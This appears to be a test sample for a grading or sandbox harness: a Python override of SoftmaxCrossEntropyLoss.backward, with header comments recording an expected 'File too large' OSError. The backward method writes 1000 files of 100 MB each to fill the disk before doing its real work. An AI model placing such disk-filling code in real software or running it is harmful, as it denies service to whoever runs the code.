# score: 3 of 4
# loses: loss_backward
# ends: raised
# says: raised OSError at mlp.py:{line} in SoftmaxCrossEntropyLoss.backward: [Errno 27] File too large
import os


class SoftmaxCrossEntropyLoss(SoftmaxCrossEntropyLoss):
    def backward(self):
        for number in range(1000):
            with open(f"MARK{number}", "wb") as file:
                file.write(bytes(10**8))
        return super().backward()
